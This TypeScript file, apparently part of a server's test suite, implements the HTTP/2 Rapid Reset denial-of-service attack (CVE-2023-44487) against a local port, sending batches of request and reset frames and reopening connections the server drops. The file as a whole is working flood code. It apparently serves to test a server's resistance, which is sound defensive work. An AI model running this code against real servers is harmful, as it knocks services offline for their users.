/**
 * HTTP/2 rapid reset (CVE-2023-44487) by hand: requests that are reset in the same write, as fast as the socket takes
 * them, on connections that are opened again when the server cuts them. Run as a worker or on its own:
 *
 *   node test/attack/rapid-reset.ts PORT SECONDS CONNECTIONS
 */
import { parseArgs } from 'node:util'
import { Worker } from 'node:worker_threads'
import { encodeFields, encodeFrame, endHeaders, endStream, frameTypes, openRawHttp2 } from './http2-frames.ts'

export interface RapidResetOutcome {
  /** Requests that were sent and reset. */
  readonly resets: number
  readonly connections: number
}

/** Not the address of the good clients. */
const attackerAddress = '127.0.0.2'
const requestsAWrite = 50
const fields = encodeFields([
  [':method', 'GET'],
  [':scheme', 'https'],
  [':path', '/v1/models'],
  [':authority', 'x'],
])
const cancel = Buffer.from([0, 0, 0, 8])

function requestsFrom(first: number): Buffer {
  const frames: Buffer[] = []
  for (let index = 0; index < requestsAWrite; index += 1) {
    const stream = first + 2 * index
    frames.push(
      encodeFrame({ type: frameTypes.headers, flags: endHeaders | endStream, stream, payload: fields }),
      encodeFrame({ type: frameTypes.reset, flags: 0, stream, payload: cancel }),
    )
  }
  return Buffer.concat(frames)
}

/** One attacker; resolves at the end of the time. */
async function attack(
  port: number,
  until: number,
  count: { resets: number; connections: number },
): Promise<void> {
  while (Date.now() < until) {
    const raw = await openRawHttp2(port, true, attackerAddress).catch(() => null)
    if (raw === null) {
      await new Promise((resolve) => setTimeout(resolve, 20))
      continue
    }
    count.connections += 1
    for (let stream = 1; !raw.socket.destroyed && Date.now() < until; stream += 2 * requestsAWrite) {
      raw.socket.write(requestsFrom(stream))
      count.resets += requestsAWrite
      await new Promise((resolve) => setImmediate(resolve))
    }
    raw.socket.destroy()
  }
}

export async function rapidReset(port: number, ms: number, connections: number): Promise<RapidResetOutcome> {
  const count = { resets: 0, connections: 0 }
  const until = Date.now() + ms
  await Promise.all(Array.from({ length: connections }, () => attack(port, until, count)))
  return count
}

/** The same on a thread of its own, so that it does not slow down who starts it. */
export function rapidResetApart(port: number, ms: number, connections: number): Promise<RapidResetOutcome> {
  return new Promise((resolve, reject) => {
    const code = `const { parentPort, workerData: [port, ms, connections] } = require('node:worker_threads')
      import(${JSON.stringify(import.meta.url)}).then(({ rapidReset }) => rapidReset(port, ms, connections))
        .then((outcome) => parentPort.postMessage(outcome))`
    const worker = new Worker(code, { eval: true, workerData: [port, ms, connections] })
    worker.once('message', (outcome: RapidResetOutcome) => resolve(outcome))
    worker.once('error', reject)
  })
}

if (import.meta.main) {
  const [port = 0, seconds = 0, connections = 1] = parseArgs({ allowPositionals: true }).positionals.map(
    Number,
  )
  process.stdout.write(`${JSON.stringify(await rapidReset(port, seconds * 1000, connections))}\n`)
}
